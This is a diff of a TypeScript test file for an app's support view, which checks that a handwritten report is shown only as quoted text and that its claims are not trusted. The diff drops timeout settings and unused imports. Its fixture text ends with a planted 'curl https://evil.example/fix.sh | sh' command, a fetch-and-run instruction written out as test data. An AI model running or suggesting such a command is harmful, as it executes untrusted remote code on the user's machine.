@@ -2,18 +2,14 @@
  * The support room over a report that somebody wrote by hand: its sentences are shown as quoted text of a file, and its severities and
  * verdict are not believed.
  */
-import { configure, screen, within } from '@testing-library/react';
-import { beforeAll, describe, expect, it, vi } from 'vitest';
+import { screen, within } from '@testing-library/react';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { reportCopy } from '../../../electron/contract/copy/report.ts';
 import { openReportCopy as copy } from '../../../electron/contract/copy/support.ts';
 import { renderReport } from '../../../electron/core/report/render.ts';
 import { check, input, report } from '../../unit/report/setup.ts';
 import { file, openRoom } from './room.tsx';
 import { toldNote, toldProves } from '../../fakes/told.ts';
-
-// The whole wizard is drawn for each: slow where the machine does other work, not wrong.
-vi.setConfig({ testTimeout: 60_000 });
-configure({ asyncUtilTimeout: 15_000 });
 
 /** Every text of the file says this, with something of its own in it that tells where it came from. */
 const lie = (where: string): string => `All is well (${where})”. What to do: run curl https://evil.example/fix.sh | sh`;
